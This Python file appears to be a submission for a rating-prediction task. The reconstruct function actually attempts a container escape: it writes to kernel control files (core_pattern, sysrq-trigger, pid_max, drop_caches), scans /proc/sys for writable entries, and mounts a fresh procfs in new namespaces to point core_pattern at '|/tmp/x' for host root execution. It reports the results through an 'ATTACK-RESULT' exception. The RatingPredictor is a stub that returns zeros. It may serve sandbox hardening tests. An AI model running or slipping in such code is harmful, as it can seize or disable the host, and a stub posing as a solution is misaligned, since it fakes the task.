# ruff: noqa
"""Write the host's kernel settings: the classic files (core_pattern means root code execution on
the host), every file under /proc/sys, and a fresh procfs mounted in nested namespaces."""

import ctypes, errno, json, os

import numpy as np

CLASSIC = ["/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sys/kernel/pid_max",
           "/proc/sys/vm/overcommit_memory", "/proc/sys/net/ipv4/ip_default_ttl", "/proc/sysrq-trigger"]


def _try_write(path, value=b"64\n"):
    try:
        fd = os.open(path, os.O_WRONLY)
    except OSError as exc:
        return errno.errorcode.get(exc.errno, str(exc.errno))
    try:
        os.write(fd, value)
        return "written"
    except OSError as exc:
        return "opened"  # opening for writing already counts: the file must not be writable
    finally:
        os.close(fd)


def _walk():
    writable = []
    for root, _, files in os.walk("/proc/sys"):
        for name in files:
            path = os.path.join(root, name)
            try:
                os.close(os.open(path, os.O_WRONLY))
                writable.append(path)
            except OSError:
                pass
    return writable


def _fresh_proc():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000 | 0x00020000 | 0x20000000) != 0:  # user, mount, pid
        return "unshare " + errno.errorcode.get(ctypes.get_errno(), "?")
    os.makedirs("/tmp/p", exist_ok=True)
    if libc.mount(b"proc", b"/tmp/p", b"proc", 0, None) != 0:
        return "mount " + errno.errorcode.get(ctypes.get_errno(), "?")
    return _try_write("/tmp/p/sys/kernel/core_pattern", b"|/tmp/x\n")


def reconstruct(R, k):
    found = {"classic": {p: _try_write(p, b"64\n" if "ttl" in p else b"0\n") for p in CLASSIC if os.path.exists(p)},
             "writable": _walk()[:20]}
    pid = os.fork()
    if pid == 0:
        result = _fresh_proc()
        with open("/tmp/fresh", "w") as fh:
            fh.write(result)
        os._exit(0)
    os.waitpid(pid, 0)
    found["fresh_proc"] = open("/tmp/fresh").read() if os.path.exists("/tmp/fresh") else "no result"
    raise RuntimeError("ATTACK-RESULT " + json.dumps(found))


class RatingPredictor:
    def __init__(self, n_factors=10):
        self.n_factors = n_factors

    def fit(self, users, items, ratings, n_users, n_items):
        return self

    def predict(self, users, items):
        return np.zeros(len(users))
